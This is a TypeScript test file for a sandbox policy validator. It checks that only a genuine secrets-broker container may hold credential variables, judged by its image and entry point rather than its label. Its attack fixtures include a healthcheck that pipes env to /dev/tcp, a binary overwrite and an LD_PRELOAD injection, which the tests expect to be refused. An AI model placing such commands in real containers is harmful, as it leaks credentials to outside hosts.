/**
 * The secrets broker in the pack: the one container a credential may reach, recognized by what it runs and not by
 * its label; the same credentials anywhere else, and a broker without routes, fail.
 */
import { describe, expect, it } from "vitest";
import { BROKER_IMAGE, brokerSpec, resolveProject } from "../../components/model";
import { copy, DOCKER, safeContainer } from "./fixtures";
import { remediateThenValidate, secret, validateStack } from "./harness";

const project = resolveProject({
  name: "demo",
  budget: { monthlyCapUsd: 100 },
  broker: {
    routes: { gh: { upstream: "https://api.example.com", paths: ["/**"], credential: { secret: "gh" } } },
  },
  templates: { t: { image: "x:1", broker: ["gh"] } },
});
const config = brokerSpec(project, "demo-net")?.config ?? "";
const TOKEN = "tok-0123456789-abcdef";

function brokerProps(extra: Record<string, unknown> = {}, conf = config): Record<string, unknown> {
  // The broker's shape: no command or mounts of its own, memory for its runtime files and /tmp.
  const { command: _command, mounts: _mounts, ...c } = copy(safeContainer());
  c.image = BROKER_IMAGE;
  c.tmpfs = { "/run/broker": "rw,noexec,nosuid,size=8m", "/tmp": "rw,noexec,nosuid,size=8m" };
  c.labels = [
    { label: "sandbox.project", value: "demo" },
    { label: "sandbox.role", value: "broker" },
  ];
  c.envs = [`SANDBOX_BROKER_CONFIG=${conf}`, secret(`SANDBOX_BROKER_CRED_GH=${TOKEN}`)];
  return { ...c, ...extra };
}

const messages = (props: object) =>
  remediateThenValidate(DOCKER, props).outcome.violations.map((v) => v.message);

describe("the broker's credentials in the pack", () => {
  it("pass in the genuine broker: its image, its own entry point, a credential variable", () => {
    expect(messages(brokerProps())).toEqual([]);
    // A stack's env list holding one secret is secret as a whole: the configuration's entry with it.
    expect(
      messages(
        brokerProps({ envs: secret([`SANDBOX_BROKER_CONFIG=${config}`, `SANDBOX_BROKER_CRED_GH=${TOKEN}`]) }),
      ),
    ).toEqual([]);
    expect(validateStack([{ type: DOCKER, name: "broker", props: brokerProps() }]).violations).toEqual([]);
  });

  it.each([
    ["another image", { image: "sandbox-busybox:1" }],
    ["a command of its own", { command: ["sh", "-c", "env"] }],
    ["an entry point of its own", { entrypoints: ["/bin/sh"] }],
  ])("fail in a container labelled as the broker that runs %s", (_what, extra) => {
    const found = messages(brokerProps(extra));
    expect(
      found.some((m) => m.includes("SANDBOX_BROKER_CRED_GH")),
      found.join("\n"),
    ).toBe(true);
    expect(JSON.stringify(found)).not.toContain(TOKEN);
  });

  it("fail in a task, whether or not the value is a Pulumi secret", () => {
    const c = copy(safeContainer());
    c.envs = [`SANDBOX_BROKER_CRED_GH=${TOKEN}`];
    expect(messages(c)).toEqual([
      'container "fixture" sets SANDBOX_BROKER_CRED_GH, a broker credential variable: only the secrets broker (its image, its own entry point) may hold one (the value is not shown) [envs[0]]',
    ]);
  });

  it("fail in the broker under any other variable name", () => {
    const p = brokerProps();
    (p.envs as unknown[]).push(secret(`SETTING=${TOKEN}`));
    expect(messages(p)).toEqual(
      expect.arrayContaining([
        'container "fixture" gets variable SETTING from a Pulumi secret (the value is not shown) [envs[2]]',
      ]),
    );
  });

  it("a broker without routes fails the stack", () => {
    const bare = brokerProps({}, "global\n  log stdout format raw local0\n");
    expect(
      validateStack([{ type: DOCKER, name: "broker", props: bare }]).violations.map((v) => v.message),
    ).toEqual([
      'Container "broker": the secrets broker has no routes (or its configuration is not in the stack), so no credential of it can be used',
    ]);
  });

  it("a label alone exempts nothing from the secret-flow rule", () => {
    const pw = { type: "random:index/randomPassword:RandomPassword", name: "db", props: { length: 24 } };
    const labelled = {
      type: DOCKER,
      name: "fake",
      props: brokerProps({ image: "x:1" }),
      dependsOn: { envs: ["db"] },
    };
    expect(validateStack([pw, labelled]).violations.map((v) => v.message)).toEqual([
      'Container "fake": envs is computed from random:index/randomPassword:RandomPassword "db", which produces a secret',
    ]);
  });

  it.each([
    ["a healthcheck", { healthcheck: { tests: ["CMD-SHELL", "env > /dev/tcp/x/1"] } }],
    [
      "an upload over its program",
      { uploads: [{ file: "/usr/local/bin/sandbox-broker", content: "#!/bin/sh\nenv" }] },
    ],
    [
      "a bind mount over its program",
      { mounts: [{ type: "bind", source: "/tmp/x", target: "/usr/sbin/haproxy" }] },
    ],
    [
      "a variable of its own",
      {
        envs: [
          `SANDBOX_BROKER_CONFIG=${config}`,
          secret(`SANDBOX_BROKER_CRED_GH=${TOKEN}`),
          "LD_PRELOAD=/tmp/x.so",
        ],
      },
    ],
  ])("are refused in a labelled broker with %s (it is no longer the broker)", (_what, extra) => {
    const found = messages(brokerProps(extra));
    expect(
      found.some((m) => m.includes("SANDBOX_BROKER_CRED_GH")),
      found.join("\n"),
    ).toBe(true);
  });
});
